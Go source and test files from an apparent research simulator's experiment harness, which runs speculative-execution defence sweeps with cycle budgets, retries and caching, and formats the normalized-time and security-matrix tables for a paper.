	if !strings.Contains(out, "geomean") || !strings.Contains(out, "511.povray_r") {
		t.Fatalf("format missing rows:\n%s", out)
	}
	out = sw.FormatRestricted("title")
	if !strings.Contains(out, "%") {
		t.Fatal("restricted format missing percentages")
	}
}

func TestMitigationColumnSets(t *testing.T) {
	if len(Figure6Mitigations()) != 5 || Figure6Mitigations()[0] != core.Unsafe {
		t.Error("Figure 6 columns wrong")
	}
	if len(Figure8Mitigations()) != 4 {
		t.Error("Figure 8 columns wrong")
	}
	if len(Figure9Mitigations()) != 4 {
		t.Error("Figure 9 columns wrong")
	}
}

func TestSecurityMatrixOutput(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the full attack suite")
	}
	var buf bytes.Buffer
	if err := SecurityMatrix(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{"PHT (Spectre v1)", "RIDL", "SpectreRewind",
		"SpecASan", "●", "○"} {
		if !strings.Contains(out, want) {
			t.Errorf("matrix missing %q", want)
		}
	}
	// 11 attacks x 5 mitigation columns = 55 verdict cells (the header
	// legend contributes 3 extra symbols).
	cells := strings.Count(out, "●") + strings.Count(out, "◐") + strings.Count(out, "○") - 3
	if cells != 55 {
		t.Errorf("matrix has %d cells, want 55", cells)
	}
}

func TestPARSECSweepSmoke(t *testing.T) {
	if testing.Short() {
		t.Skip("4-core sweep")
	}
	specs := []*workloads.Spec{workloads.ByName("swaptions")}
	sw, err := RunSweep(specs, []core.Mitigation{core.Unsafe, core.SpecASan}, smallOpts())
	if err != nil {
		t.Fatal(err)
	}
	n := sw.Normalized("swaptions", core.SpecASan)
	if n < 0.9 || n > 1.5 {
		t.Fatalf("PARSEC SpecASan normalized = %v, outside sanity range", n)
	}
}

func TestRunBenchmarkRejectsUnknownTimeout(t *testing.T) {
	opt := smallOpts()
	opt.MaxCycles = 10 // absurdly small: must report a timeout error
	_, err := RunBenchmark(workloads.ByName("508.namd_r"), core.Unsafe, opt)
	if err == nil {
		t.Fatal("expected timeout error")
	}
	if !errors.Is(err, ErrTimedOut) {
		t.Fatalf("timeout not marked ErrTimedOut: %v", err)
	}
}

// spinSpec never halts: it times out under any finite budget, including the
// sweep's escalated retry.
func spinSpec() *workloads.Spec {
	return &workloads.Spec{Name: "spin", Suite: "test", Threads: 1, Source: `
_start:
spin:
    B spin
`}
}

// faultSpec commits an MTE tag-check fault under tag-enforcing mitigations:
// it locks a granule with key 3 and then loads it through an untagged
// pointer.
func faultSpec() *workloads.Spec {
	return &workloads.Spec{Name: "fault", Suite: "test", Threads: 1, Source: `
_start:
    MOV  X1, #2097152
    ADDG X1, X1, #0, #3
    STG  X1, [X1]
    MOV  X3, #2097152
    LDR  X4, [X3]
    SVC  #0
`}
}

func TestRunBenchmarkReportsTimedOutCores(t *testing.T) {
	opt := smallOpts()
	opt.MaxCycles = 20_000
	_, err := RunBenchmark(spinSpec(), core.Unsafe, opt)
	if err == nil || !errors.Is(err, ErrTimedOut) {
		t.Fatalf("want ErrTimedOut, got %v", err)
	}
	if !strings.Contains(err.Error(), "cores [0]") {
		t.Fatalf("timeout error does not name the stuck cores: %v", err)
	}
}

func TestRunBenchmarkReportsFault(t *testing.T) {
	_, err := RunBenchmark(faultSpec(), core.SpecASan, smallOpts())
	if err == nil || !strings.Contains(err.Error(), "faulted") {
		t.Fatalf("want fault error, got %v", err)
	}
	// The same kernel is clean when MTE is off: the sweep test below relies
	// on the fault being mitigation-dependent.
	if _, err := RunBenchmark(faultSpec(), core.Unsafe, smallOpts()); err != nil {
		t.Fatalf("untagged run should pass: %v", err)
	}
}

// One failing benchmark must cost its own cells, not the sweep: the sweep
// completes, healthy cells carry results, failed cells carry errors, and the
// formatted tables render the partial data with a failure footnote.
func TestSweepSurvivesFailingBenchmarks(t *testing.T) {
	specs := []*workloads.Spec{
		workloads.ByName("511.povray_r"),
		spinSpec(),
		faultSpec(),
	}
	opt := smallOpts()
	opt.MaxCycles = 50_000 // povray at Scale .02 fits; spin cannot
	mits := []core.Mitigation{core.Unsafe, core.SpecASan}
	sw, err := RunSweep(specs, mits, opt)
	if err != nil {
		t.Fatal(err)
	}
	if sw.Results["511.povray_r"][core.SpecASan] == nil {
		t.Fatalf("healthy cell missing: %v", sw.FailedCells())
	}
	if sw.Err("spin", core.Unsafe) == nil || !errors.Is(sw.Err("spin", core.SpecASan), ErrTimedOut) {
		t.Fatalf("spin cells not recorded as timeouts: %v", sw.FailedCells())
	}
	if sw.Err("fault", core.SpecASan) == nil {
		t.Fatal("fault/SpecASan cell not recorded as failed")
	}
	if sw.Err("fault", core.Unsafe) != nil {
		t.Fatalf("fault kernel is clean without MTE: %v", sw.Err("fault", core.Unsafe))
	}
	if g := sw.GeomeanNormalized(core.SpecASan); g <= 0 {
		t.Fatalf("geomean over surviving cells = %v", g)
	}
	out := sw.FormatNormalized("partial")
	if !strings.Contains(out, "failed") || !strings.Contains(out, "511.povray_r") {
		t.Fatalf("partial table not rendered:\n%s", out)
	}
	if !strings.Contains(out, "failed cells (excluded from aggregates):") {
		t.Fatalf("missing failure footnote:\n%s", out)
	}
	if !strings.Contains(sw.FormatRestricted("partial"), "failed") {
		t.Fatal("restricted table missing failed markers")
	}
}

// A timed-out cell gets exactly one retry with an escalated budget; a
// slow-but-finite benchmark must recover on it.
func TestSweepRetryRecoversSlowRun(t *testing.T) {
	spec := workloads.ByName("511.povray_r")
	opt := smallOpts()
	// Find a budget the kernel misses but 4x recovers: run once to size it.
	r, err := RunBenchmark(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}
	opt.MaxCycles = r.Cycles/2 + 1 // too small once, ample at 4x
	sw, err := RunSweep([]*workloads.Spec{spec}, []core.Mitigation{core.Unsafe}, opt)
	if err != nil {
		t.Fatal(err)
	}
	if sw.Err(spec.Name, core.Unsafe) != nil {
		t.Fatalf("retry did not recover: %v", sw.Err(spec.Name, core.Unsafe))
	}
	if sw.Results[spec.Name][core.Unsafe] == nil {
		t.Fatal("recovered cell missing result")
	}
}

// RunSweep returns an error only when nothing ran at all.
func TestSweepAllCellsFailed(t *testing.T) {
	opt := smallOpts()
	opt.MaxCycles = 1000
	sw, err := RunSweep([]*workloads.Spec{spinSpec()}, []core.Mitigation{core.Unsafe}, opt)
	if err == nil {
		t.Fatal("all-failed sweep should return an error")
	}
	if sw == nil || sw.Err("spin", core.Unsafe) == nil {
		t.Fatal("partial sweep state should still be returned")
	}
}

// TestFigure6MitigationSet pins the Figure 6 list to the copy spelled out in
// internal/cpu's differential tests (which cannot import the harness).
func TestFigure6MitigationSet(t *testing.T) {
	want := []core.Mitigation{core.Unsafe, core.Fence, core.STT,
		core.GhostMinion, core.SpecASan}
	got := Figure6Mitigations()
	if len(got) != len(want) {
		t.Fatalf("Figure6Mitigations() = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("Figure6Mitigations()[%d] = %v, want %v", i, got[i], want[i])
		}
	}
}
