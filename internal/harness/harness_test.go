package harness

import (
	"bytes"
	"strings"
	"testing"

	"specasan/internal/core"
	"specasan/internal/workloads"
)

func smallOpts() Options {
	opt := DefaultOptions()
	opt.Scale = 0.02
	return opt
}

func TestRunBenchmarkProducesStats(t *testing.T) {
	r, err := RunBenchmark(workloads.ByName("508.namd_r"), core.Unsafe, smallOpts())
	if err != nil {
		t.Fatal(err)
	}
	if r.Cycles == 0 || r.Committed == 0 {
		t.Fatalf("empty result: %+v", r)
	}
	if r.Stats.Get("commits") != r.Committed {
		t.Fatal("stats inconsistent")
	}
}

func TestSweepNormalization(t *testing.T) {
	specs := []*workloads.Spec{workloads.ByName("511.povray_r")}
	sw, err := RunSweep(specs, []core.Mitigation{core.Unsafe, core.Fence}, smallOpts())
	if err != nil {
		t.Fatal(err)
	}
	if n := sw.Normalized("511.povray_r", core.Unsafe); n != 1.0 {
		t.Fatalf("baseline normalizes to %v", n)
	}
	if n := sw.Normalized("511.povray_r", core.Fence); n < 1.0 {
		t.Fatalf("fences cannot be faster than baseline: %v", n)
	}
	if g := sw.GeomeanNormalized(core.Fence); g < 1.0 {
		t.Fatalf("geomean %v", g)
	}
	out := sw.FormatNormalized("title")
	if !strings.Contains(out, "geomean") || !strings.Contains(out, "511.povray_r") {
		t.Fatalf("format missing rows:\n%s", out)
	}
	out = sw.FormatRestricted("title")
	if !strings.Contains(out, "%") {
		t.Fatal("restricted format missing percentages")
	}
}

func TestMitigationColumnSets(t *testing.T) {
	if len(Figure6Mitigations()) != 5 || Figure6Mitigations()[0] != core.Unsafe {
		t.Error("Figure 6 columns wrong")
	}
	if len(Figure8Mitigations()) != 4 {
		t.Error("Figure 8 columns wrong")
	}
	if len(Figure9Mitigations()) != 4 {
		t.Error("Figure 9 columns wrong")
	}
}

func TestSecurityMatrixOutput(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the full attack suite")
	}
	var buf bytes.Buffer
	if err := SecurityMatrix(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{"PHT (Spectre v1)", "RIDL", "SpectreRewind",
		"SpecASan", "●", "○"} {
		if !strings.Contains(out, want) {
			t.Errorf("matrix missing %q", want)
		}
	}
	// 11 attacks x 5 mitigation columns = 55 verdict cells (the header
	// legend contributes 3 extra symbols).
	cells := strings.Count(out, "●") + strings.Count(out, "◐") + strings.Count(out, "○") - 3
	if cells != 55 {
		t.Errorf("matrix has %d cells, want 55", cells)
	}
}

func TestPARSECSweepSmoke(t *testing.T) {
	if testing.Short() {
		t.Skip("4-core sweep")
	}
	specs := []*workloads.Spec{workloads.ByName("swaptions")}
	sw, err := RunSweep(specs, []core.Mitigation{core.Unsafe, core.SpecASan}, smallOpts())
	if err != nil {
		t.Fatal(err)
	}
	n := sw.Normalized("swaptions", core.SpecASan)
	if n < 0.9 || n > 1.5 {
		t.Fatalf("PARSEC SpecASan normalized = %v, outside sanity range", n)
	}
}

func TestRunBenchmarkRejectsUnknownTimeout(t *testing.T) {
	opt := smallOpts()
	opt.MaxCycles = 10 // absurdly small: must report a timeout error
	if _, err := RunBenchmark(workloads.ByName("508.namd_r"), core.Unsafe, opt); err == nil {
		t.Fatal("expected timeout error")
	}
}
