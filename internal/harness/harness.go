// Package harness runs the paper's experiments: the security matrix of
// Table 1 and the performance sweeps behind Figures 6-9, and formats each
// as the table/series the paper reports.
package harness

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"runtime/debug"
	"sort"
	"strings"

	"specasan/internal/attacks"
	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/isa"
	"specasan/internal/obs"
	"specasan/internal/par"
	"specasan/internal/stats"
	"specasan/internal/store"
	"specasan/internal/workloads"
)

// ErrTimedOut marks a benchmark run that exhausted its cycle budget.
// RunSweep retries these once with an escalated budget; match with
// errors.Is.
var ErrTimedOut = errors.New("cycle budget exhausted")

// Options tunes experiment cost.
type Options struct {
	// Scale multiplies every kernel's iteration count. 1.0 ≈ 100k-200k
	// committed instructions per benchmark; the tests use less.
	Scale float64
	// MaxCycles bounds each run.
	MaxCycles uint64
	// Verbose prints one line per completed run to Log.
	Verbose bool
	Log     io.Writer
	// Workers bounds sweep-cell concurrency: 0 means GOMAXPROCS, 1 forces
	// the serial path. Results and log output are deterministic and
	// byte-identical for every value (cells are independent machines; logs
	// are buffered per cell and flushed in cell order).
	Workers int
	// Metrics, when set, receives one obs JSONL record per successful run
	// (issue-to-commit / tag-check-delay / squash-depth / LFB-stall
	// histograms). Under RunSweep the stream is buffered per cell and
	// flushed in cell order, so it is byte-identical for any Workers value.
	Metrics io.Writer
	// Attach, when set, is called with each cell's machine after
	// construction and before the run — the hook the commands use to attach
	// an event tracer to a chosen cell.
	Attach func(bench string, mit core.Mitigation, m *cpu.Machine)
	// NoSkipIdle disables event-driven idle-cycle skipping (cpu.Machine
	// SkipIdle). Skipping is exactness-preserving, so this only trades
	// speed for a cycle-by-cycle walk — useful for A/B determinism checks.
	NoSkipIdle bool
	// ParallelCores selects intra-machine stepping (cpu.Machine
	// ParallelCores): 0 = auto (one goroutine per simulated core when the
	// cell has several cores and GOMAXPROCS > 1), 1 = force the serial
	// walk, >= 2 = force parallel stepping. Bit-identical either way —
	// results, logs, and metrics never depend on it.
	ParallelCores int
	// Config, when set, is the machine configuration every run uses (its
	// Cores field is overridden per workload); nil means core.DefaultConfig.
	// Scenario-driven runs set this to the scenario's Machine.
	Config *core.Config
	// ScenarioHash, when set, is stamped into every metrics record this run
	// emits — the canonical content hash of the effective scenario.
	ScenarioHash string
	// Retry tunes the escalated-budget retry of timed-out cells. The zero
	// value reproduces the original policy (one retry at 4x the budget);
	// scenario-driven runs map the retry_budget_factor/max_retries knobs
	// here.
	Retry RetryPolicy
	// Store, when set together with ResultHash, caches successful cell
	// results: RunCell consults it before simulating and writes every cold
	// success back. Instrumented cells (Metrics or Attach set) always
	// simulate, because a cached result cannot replay their event streams.
	Store CellStore
	// ResultHash keys the store: the scenario's result-context hash
	// (scenario.ResultHash). Empty disables the cache even when Store is
	// set — results without a scenario identity are not addressable.
	ResultHash string

	// TraceRecord, when set together with Artifacts, records each cell's
	// workload build as a replayable trace (internal/trace) the first time
	// that build identity runs — record-once, a pure side effect: the cell
	// itself still live-decodes unless TraceReplay is also set, and results
	// are unchanged either way.
	TraceRecord bool
	// TraceReplay, when set together with Artifacts, runs each cell through
	// the recorded trace's frontend instead of live-decoding the assembled
	// program. Replay is bit-identical to live decode (pinned by test). A
	// missing recording is an error unless TraceRecord is also set, which
	// records on miss and then replays.
	TraceReplay bool
	// Artifacts is the content-addressed store trace artifacts live in — a
	// raw *store.Store, distinct from the Store cell cache seam (though both
	// may share one on-disk root). Required by TraceRecord/TraceReplay.
	Artifacts *store.Store

	// FastForwardInsts, when > 0, runs the first N instructions of every
	// single-core cell on the functional golden interpreter, transplants the
	// architectural state into a fresh detailed machine (cpu.NewMachineAt),
	// and simulates the remainder cycle-accurately ("tail mode"; see
	// sample.go). Multi-threaded cells and programs shorter than N fall back
	// to full detailed runs.
	FastForwardInsts uint64
	// SampleWindows, when > 1, switches to windowed sampling: that many
	// evenly-spaced detailed windows of SampleWindowInsts instructions each,
	// whole-run cycles extrapolated from their pooled post-warmup IPC.
	SampleWindows int
	// SampleWindowInsts is the detailed length of each sampled window
	// (required when SampleWindows > 1).
	SampleWindowInsts uint64
	// WarmupCycles is the micro-architectural warmup budget after each state
	// transplant (cold caches, predictors, TSH): detailed cycles whose
	// counters are excluded from IPC estimates. 0 means DefaultWarmupCycles.
	WarmupCycles uint64
}

// Sampling reports whether the options select fast-forward sampled runs.
func (o *Options) Sampling() bool {
	return o.FastForwardInsts > 0 || o.SampleWindows > 1
}

// DefaultWarmupCycles is the warmup budget used when WarmupCycles is 0 —
// both by sampled runs after a transplant and by the -perf steady-state
// measurement (the knob PR 1-6 hardcoded as perfWarmupSteps).
const DefaultWarmupCycles = 2000

// warmup resolves the zero-value convention.
func (o *Options) warmup() uint64 {
	if o.WarmupCycles > 0 {
		return o.WarmupCycles
	}
	return DefaultWarmupCycles
}

// RetryPolicy tunes how RunCell retries cells that exhaust their cycle
// budget. The zero value means the defaults below; MaxRetries < 0 disables
// retries entirely (a scenario's max_retries: 0 maps to that).
type RetryPolicy struct {
	// BudgetFactor scales MaxCycles on each retry (0 = DefaultRetryBudgetFactor).
	BudgetFactor uint64
	// MaxRetries bounds the escalated retries (0 = DefaultMaxRetries, <0 = none).
	MaxRetries int
}

// The original hardcoded sweep-retry policy, now just the defaults.
const (
	DefaultRetryBudgetFactor = 4
	DefaultMaxRetries        = 1
)

// normalized resolves the zero-value conventions.
func (p RetryPolicy) normalized() (factor uint64, retries int) {
	factor, retries = p.BudgetFactor, p.MaxRetries
	if factor == 0 {
		factor = DefaultRetryBudgetFactor
	}
	switch {
	case retries == 0:
		retries = DefaultMaxRetries
	case retries < 0:
		retries = 0
	}
	return factor, retries
}

// DefaultOptions are suitable for the command-line tools.
func DefaultOptions() Options {
	return Options{Scale: 1.0, MaxCycles: 200_000_000}
}

func (o *Options) logf(format string, args ...interface{}) {
	if o.Verbose && o.Log != nil {
		fmt.Fprintf(o.Log, format+"\n", args...)
	}
}

// PerfResult is one benchmark under one mitigation.
type PerfResult struct {
	Benchmark  string
	Mitigation core.Mitigation
	Cycles     uint64
	Committed  uint64
	Restricted uint64 // committed instructions the mitigation delayed
	Output     string // core 0's console output, if the kernel printed
	Stats      *stats.Set
	// Sampled, when non-nil, marks a fast-forward sampled run: Cycles (and
	// Restricted) are extrapolated from the detailed regions it describes;
	// Committed and Output are exact.
	Sampled *obs.SampledRegions
	// Note is a deterministic per-cell diagnostic the harness attaches (e.g.
	// "uncached: source override" when a cell a caching run wanted to cache
	// could not be keyed). It rides into CellResult and the serve response
	// but never affects the simulated result.
	Note string
}

// RunBenchmark executes one kernel under one mitigation and returns its
// timing. MTE-based mitigations run the tagged build. With sampling options
// set (Options.Sampling) single-core cells run in fast-forward sampled mode;
// multi-threaded cells and programs too short to sample fall back to the
// full detailed run below.
func RunBenchmark(spec *workloads.Spec, mit core.Mitigation, opt Options) (*PerfResult, error) {
	spec, err := ResolveTrace(spec, mit, opt)
	if err != nil {
		return nil, err
	}
	if opt.Sampling() {
		if spec.Threads == 1 {
			r, err := runSampled(spec, mit, opt)
			if !errors.Is(err, errSampleTooShort) {
				return r, err
			}
			opt.logf("  %-18s %-12s too short to sample; full detailed run", spec.Name, mit)
		} else {
			opt.logf("  %-18s %-12s sampling skipped (%d threads); full detailed run",
				spec.Name, mit, spec.Threads)
		}
	}
	fe, err := specFrontend(spec, mit, opt)
	if err != nil {
		return nil, err
	}
	cfg := core.DefaultConfig()
	if opt.Config != nil {
		cfg = *opt.Config
	}
	cfg.Cores = spec.Threads
	m, err := cpu.NewMachineFrontend(cfg, mit, fe)
	if err != nil {
		return nil, err
	}
	for i := 0; i < spec.Threads; i++ {
		m.Core(i).SetReg(isa.X0, uint64(i))
	}
	m.SkipIdle = !opt.NoSkipIdle
	m.ParallelCores = opt.ParallelCores
	var met *obs.Metrics
	if opt.Metrics != nil {
		met = obs.NewMetrics(cfg.Cores)
		m.AttachObs(nil, met)
	}
	if opt.Attach != nil {
		opt.Attach(spec.Name, mit, m)
	}
	res := m.Run(opt.MaxCycles)
	if res.Err != nil {
		// Watchdog verdict: a wedged pipeline or broken invariant. Not
		// retryable — surface the structured error with its snapshot.
		return nil, fmt.Errorf("%s under %v: %w", spec.Name, mit, res.Err)
	}
	if res.TimedOut {
		return nil, fmt.Errorf("%s under %v: %w after %d cycles (cores %v still running)",
			spec.Name, mit, ErrTimedOut, res.Cycles, res.TimedOutCores())
	}
	if res.Faulted {
		return nil, fmt.Errorf("%s under %v faulted at %#x (core %d)",
			spec.Name, mit, m.Core(res.FaultCore).FaultPC, res.FaultCore)
	}
	opt.logf("  %-18s %-12s cycles=%-10d ipc=%.2f restricted=%d",
		spec.Name, mit, res.Cycles, res.IPC(), res.Stats.Get("restricted_commits"))
	if met != nil {
		rec := met.Record(spec.Name, mit.String(), res.Cycles, res.Committed)
		rec.ScenarioHash = opt.ScenarioHash
		if err := obs.WriteMetricsLine(opt.Metrics, rec); err != nil {
			return nil, fmt.Errorf("%s under %v: writing metrics: %w", spec.Name, mit, err)
		}
	}
	return &PerfResult{
		Benchmark:  spec.Name,
		Mitigation: mit,
		Cycles:     res.Cycles,
		Committed:  res.Committed,
		Restricted: res.Stats.Get("restricted_commits"),
		Output:     string(m.Core(0).Output),
		Stats:      res.Stats,
	}, nil
}

// Sweep holds the results of one figure's parameter sweep, organised as
// benchmark x mitigation. Cells that failed to run are absent from Results
// and recorded in Errors instead; the formatters render them as "failed" and
// the aggregates skip them.
type Sweep struct {
	Benchmarks  []string
	Mitigations []core.Mitigation
	Results     map[string]map[core.Mitigation]*PerfResult
	Errors      map[string]map[core.Mitigation]error
}

// Err returns the recorded failure for (bench, mit), nil if the cell ran.
func (s *Sweep) Err(bench string, mit core.Mitigation) error {
	return s.Errors[bench][mit]
}

// FailedCells lists every failed cell as "bench/mitigation: error", in table
// order.
func (s *Sweep) FailedCells() []string {
	var out []string
	for _, b := range s.Benchmarks {
		for _, m := range s.Mitigations {
			if err := s.Errors[b][m]; err != nil {
				out = append(out, fmt.Sprintf("%s/%v: %v", b, m, err))
			}
		}
	}
	return out
}

// RunCell executes one (benchmark, mitigation) cell — the store-aware,
// retrying, panic-recovering seam that RunSweep and the serve daemon share.
// cached reports whether the result was served from opt.Store instead of
// simulated. All log output goes through opt, so a caller can hand it a
// cell-local buffer and replay it deterministically.
//
// Behaviour, in order:
//   - If the cell is cacheable (Store and ResultHash set, no Metrics/Attach
//     instrumentation) and the store holds a verified entry for
//     (ResultHash, bench, mitigation), that result is returned without
//     simulating. Corrupt entries have been quarantined by the store and
//     read as misses, so a damaged cache can cost a re-simulation but never
//     a wrong answer.
//   - Otherwise the cell simulates, with up to Retry.MaxRetries
//     escalated-budget retries for timeouts (budget scaled by
//     Retry.BudgetFactor each attempt, saturating instead of overflowing).
//   - A panic anywhere in the simulation is converted to a cell error with
//     the stack attached, so one diseased cell costs a table entry, not the
//     sweep or the serving process.
//   - A cold success is written back to the store; write failures (e.g. a
//     store in read-only mode) are deliberately non-fatal.
func RunCell(spec *workloads.Spec, mit core.Mitigation, opt Options) (r *PerfResult, cached bool, err error) {
	// Source-override specs are excluded: their program text lives outside
	// the scenario, so (ResultHash, name) does not pin their identity. That
	// exclusion used to be silent; it now surfaces as a Note on the result.
	wantCache := opt.Store != nil && opt.ResultHash != "" &&
		opt.Metrics == nil && opt.Attach == nil
	cacheable := wantCache && spec.Source == ""
	if cacheable {
		if cr, ok := opt.Store.GetCell(opt.ResultHash, spec.Name, mit.String()); ok {
			if r, err := cr.PerfResult(); err == nil {
				opt.logf("  %-18s %-12s cached cycles=%-10d ipc=%.2f restricted=%d",
					spec.Name, mit, r.Cycles,
					float64(r.Committed)/float64(max(r.Cycles, 1)), r.Restricted)
				return r, true, nil
			}
			// An entry that decodes but cannot be rehydrated (e.g. a policy
			// name this process has not registered) is as good as a miss.
		}
	}
	factor, retries := opt.Retry.normalized()
	r, err = runBenchmarkRecover(spec, mit, opt)
	budget := opt.MaxCycles
	for attempt := 0; attempt < retries && errors.Is(err, ErrTimedOut); attempt++ {
		if budget > ^uint64(0)/factor {
			break // budget would overflow; the cell is a true hang
		}
		budget *= factor
		retry := opt
		retry.MaxCycles = budget
		opt.logf("  %-18s %-12s timed out; retrying with %d-cycle budget",
			spec.Name, mit, budget)
		r, err = runBenchmarkRecover(spec, mit, retry)
	}
	if err != nil {
		opt.logf("  %-18s %-12s FAILED: %v", spec.Name, mit, err)
		return nil, false, err
	}
	if cacheable {
		opt.Store.PutCell(opt.ResultHash, CellResultOf(r))
	} else if wantCache && spec.Source != "" {
		r.Note = "uncached: source override"
		opt.logf("  %-18s %-12s uncached: source override", spec.Name, mit)
	}
	return r, false, nil
}

// runBenchmarkRecover is RunBenchmark with panics converted to errors: the
// fault-isolation boundary of every cell execution.
func runBenchmarkRecover(spec *workloads.Spec, mit core.Mitigation, opt Options) (r *PerfResult, err error) {
	defer func() {
		if p := recover(); p != nil {
			r = nil
			err = fmt.Errorf("%s under %v: panic: %v\n%s", spec.Name, mit, p, debug.Stack())
		}
	}()
	return RunBenchmark(spec, mit, opt)
}

// RunSweep executes every benchmark under every mitigation, running up to
// opt.Workers cells concurrently (each cell is an independent simulated
// machine). It degrades gracefully: a cell that fails is recorded in
// Sweep.Errors and the sweep continues, so one wedged benchmark costs one
// table cell, not the whole figure. Timed-out cells are retried with
// escalated MaxCycles budgets under opt.Retry — by default once at 4x, so
// slow-but-finite runs recover and true hangs fail twice. The returned error
// is non-nil only when every cell failed.
//
// Determinism contract: results, errors, and every byte written to opt.Log
// and opt.Metrics are identical for any worker count. Per-cell log and
// metrics output is captured in cell-local buffers and flushed in cell order
// (benchmark-major, mitigation-minor) as the completed prefix grows.
// opt.Attach, when set, may be called from several workers at once; the
// commands' attach hooks only touch the one machine they match.
func RunSweep(specs []*workloads.Spec, mits []core.Mitigation, opt Options) (*Sweep, error) {
	sw := &Sweep{
		Mitigations: mits,
		Results:     make(map[string]map[core.Mitigation]*PerfResult),
		Errors:      make(map[string]map[core.Mitigation]error),
	}
	for _, spec := range specs {
		sw.Benchmarks = append(sw.Benchmarks, spec.Name)
		sw.Results[spec.Name] = make(map[core.Mitigation]*PerfResult)
		sw.Errors[spec.Name] = make(map[core.Mitigation]error)
	}
	type cell struct {
		spec *workloads.Spec
		mit  core.Mitigation
		res  *PerfResult
		err  error
		log  bytes.Buffer
		met  bytes.Buffer
	}
	cells := make([]cell, 0, len(specs)*len(mits))
	for _, spec := range specs {
		for _, mit := range mits {
			cells = append(cells, cell{spec: spec, mit: mit})
		}
	}
	ran := 0
	par.ForEachOrdered(len(cells), opt.Workers,
		func(i int) {
			c := &cells[i]
			cellOpt := opt
			cellOpt.Log = &c.log
			if opt.Metrics != nil {
				cellOpt.Metrics = &c.met
			}
			c.res, _, c.err = RunCell(c.spec, c.mit, cellOpt)
		},
		func(i int) {
			c := &cells[i]
			if opt.Log != nil {
				io.Copy(opt.Log, &c.log)
			}
			if opt.Metrics != nil {
				io.Copy(opt.Metrics, &c.met)
			}
			if c.err != nil {
				sw.Errors[c.spec.Name][c.mit] = c.err
				return
			}
			ran++
			sw.Results[c.spec.Name][c.mit] = c.res
		})
	if ran == 0 && len(specs) > 0 && len(mits) > 0 {
		return sw, fmt.Errorf("sweep: all %d cells failed (first: %v)",
			len(specs)*len(mits), sw.Errors[specs[0].Name][mits[0]])
	}
	return sw, nil
}

// Normalized returns execution time of (bench, mit) relative to the Unsafe
// baseline run in the same sweep.
func (s *Sweep) Normalized(bench string, mit core.Mitigation) float64 {
	base := s.Results[bench][core.Unsafe]
	r := s.Results[bench][mit]
	if base == nil || r == nil || base.Cycles == 0 {
		return 0
	}
	return float64(r.Cycles) / float64(base.Cycles)
}

// RestrictedPct returns the percentage of committed instructions the
// mitigation restricted for (bench, mit).
func (s *Sweep) RestrictedPct(bench string, mit core.Mitigation) float64 {
	r := s.Results[bench][mit]
	if r == nil || r.Committed == 0 {
		return 0
	}
	return 100 * float64(r.Restricted) / float64(r.Committed)
}

// GeomeanNormalized returns the geometric-mean normalized execution time of
// a mitigation across the sweep's successfully-run benchmarks (failed cells
// — either the mitigation's run or its Unsafe baseline — are excluded).
func (s *Sweep) GeomeanNormalized(mit core.Mitigation) float64 {
	var xs []float64
	for _, b := range s.Benchmarks {
		if x := s.Normalized(b, mit); x > 0 {
			xs = append(xs, x)
		}
	}
	return stats.Geomean(xs)
}

// MeanRestrictedPct returns the average restricted-instruction percentage of
// a mitigation across the sweep's successfully-run benchmarks.
func (s *Sweep) MeanRestrictedPct(mit core.Mitigation) float64 {
	var xs []float64
	for _, b := range s.Benchmarks {
		if s.Results[b][mit] == nil {
			continue
		}
		xs = append(xs, s.RestrictedPct(b, mit))
	}
	return stats.Mean(xs)
}

// FormatNormalized renders the sweep as the paper's normalized-execution-
// time table (Figures 6, 7, 9): one row per benchmark, one column per
// mitigation, plus the geomean row.
func (s *Sweep) FormatNormalized(title string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s\n", title)
	fmt.Fprintf(&b, "%-18s", "benchmark")
	for _, m := range s.Mitigations {
		if m == core.Unsafe {
			continue
		}
		fmt.Fprintf(&b, " %12s", m)
	}
	b.WriteByte('\n')
	for _, bench := range s.Benchmarks {
		fmt.Fprintf(&b, "%-18s", bench)
		for _, m := range s.Mitigations {
			if m == core.Unsafe {
				continue
			}
			if s.Results[bench][m] == nil || s.Results[bench][core.Unsafe] == nil {
				fmt.Fprintf(&b, " %12s", "failed")
				continue
			}
			fmt.Fprintf(&b, " %12.3f", s.Normalized(bench, m))
		}
		b.WriteByte('\n')
	}
	fmt.Fprintf(&b, "%-18s", "geomean")
	for _, m := range s.Mitigations {
		if m == core.Unsafe {
			continue
		}
		fmt.Fprintf(&b, " %12.3f", s.GeomeanNormalized(m))
	}
	b.WriteByte('\n')
	s.appendFailures(&b)
	return b.String()
}

// appendFailures footnotes the failed cells under a formatted table.
func (s *Sweep) appendFailures(b *strings.Builder) {
	fails := s.FailedCells()
	if len(fails) == 0 {
		return
	}
	fmt.Fprintf(b, "failed cells (excluded from aggregates):\n")
	for _, f := range fails {
		fmt.Fprintf(b, "  %s\n", f)
	}
}

// FormatRestricted renders the Figure 8 restricted-instruction table.
func (s *Sweep) FormatRestricted(title string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s\n", title)
	fmt.Fprintf(&b, "%-18s", "benchmark")
	for _, m := range s.Mitigations {
		if m == core.Unsafe {
			continue
		}
		fmt.Fprintf(&b, " %12s", m)
	}
	b.WriteByte('\n')
	for _, bench := range s.Benchmarks {
		fmt.Fprintf(&b, "%-18s", bench)
		for _, m := range s.Mitigations {
			if m == core.Unsafe {
				continue
			}
			if s.Results[bench][m] == nil {
				fmt.Fprintf(&b, " %12s", "failed")
				continue
			}
			fmt.Fprintf(&b, " %11.2f%%", s.RestrictedPct(bench, m))
		}
		b.WriteByte('\n')
	}
	fmt.Fprintf(&b, "%-18s", "average")
	for _, m := range s.Mitigations {
		if m == core.Unsafe {
			continue
		}
		fmt.Fprintf(&b, " %11.2f%%", s.MeanRestrictedPct(m))
	}
	b.WriteByte('\n')
	s.appendFailures(&b)
	return b.String()
}

// Figure6Mitigations are the defence columns of Figures 6 and 7.
func Figure6Mitigations() []core.Mitigation {
	return []core.Mitigation{core.Unsafe, core.Fence, core.STT,
		core.GhostMinion, core.SpecASan}
}

// Figure8Mitigations are the restriction-metric columns of Figure 8.
func Figure8Mitigations() []core.Mitigation {
